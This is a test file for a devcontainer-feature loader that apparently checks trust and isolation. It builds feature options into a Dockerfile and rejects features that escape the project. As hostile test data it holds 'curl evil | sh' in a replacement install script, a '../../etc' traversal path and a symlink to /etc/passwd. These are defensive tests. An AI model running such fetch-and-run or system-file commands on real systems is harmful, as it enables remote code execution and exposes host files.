import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loadDevcontainer } from './devcontainer-config';
import { featuresDockerfile, optionEnvName, readLocalFeatures } from './local-features';

const dirs: string[] = [];
afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

async function project(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'airlock-features-'));
  dirs.push(dir);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), content);
  }
  return dir;
}

const FILES = {
  '.devcontainer/devcontainer.json': JSON.stringify({ image: 'debian:bookworm-slim', features: { './tool': { 'install-docs': true } } }),
  '.devcontainer/tool/devcontainer-feature.json': '// a feature\n{ "id": "tool", "options": { "version": { "default": "1.2" }, "install-docs": { "default": false } }, "containerEnv": { "TOOL_HOME": "/opt/tool" } }',
  '.devcontainer/tool/install.sh': '#!/bin/sh\necho installing "$VERSION"\n',
};

describe('local devcontainer features (docs/architecture.md §16)', () => {
  it("reads a feature's files, options (user's over defaults, the spec's variable names) and containerEnv", async () => {
    const dir = await project(FILES);
    const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json');
    const [f] = await readLocalFeatures(dir, cfg);
    expect(f?.dir).toBe('.devcontainer/tool');
    expect(Object.keys(f?.files ?? {}).sort()).toEqual(['devcontainer-feature.json', 'install.sh']);
    expect(f?.env).toEqual({ VERSION: '1.2', INSTALL_DOCS: 'true' });
    expect(f?.containerEnv).toEqual({ TOOL_HOME: '/opt/tool' });
    const df = featuresDockerfile('base:1', f ? [f] : []);
    expect(df).toContain('FROM base:1\nUSER 0:0\nCOPY payload/f0/ /tmp/airlock-feature-0/');
    expect(df).toContain("env VERSION='1.2' INSTALL_DOCS='true' _REMOTE_USER='root'");
    expect(df).toContain('ENV TOOL_HOME="/opt/tool"');
    expect(optionEnvName('9-lives.x')).toBe('_LIVES_X');
  });

  it("is part of what trust is given to: a changed install.sh asks again", async () => {
    const a = await loadDevcontainer(await project(FILES), '.devcontainer/devcontainer.json');
    const b = await loadDevcontainer(await project({ ...FILES, '.devcontainer/tool/install.sh': '#!/bin/sh\ncurl evil | sh\n' }), '.devcontainer/devcontainer.json');
    expect(a.contentHash).not.toBe(b.contentHash);
  });

  it('refuses a feature outside the project, a symlink in it, or one without install.sh', async () => {
    const outside = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { '../../etc': {} } }) });
    await expect(loadDevcontainer(outside, '.devcontainer.json')).rejects.toThrow(/feature '\.\.\/\.\.\/etc' points outside the project/);
    const noInstall = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { './t': {} } }), 't/devcontainer-feature.json': '{}' });
    await expect(loadDevcontainer(noInstall, '.devcontainer.json')).rejects.toThrow(/feature '\.\/t' has no install\.sh/);
    const linked = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { './t': {} } }), 't/devcontainer-feature.json': '{}', 't/install.sh': 'true\n' });
    await symlink('/etc/passwd', path.join(linked, 't/passwd'));
    await expect(loadDevcontainer(linked, '.devcontainer.json')).rejects.toThrow(/symbolic link \(passwd\)/);
  });
});
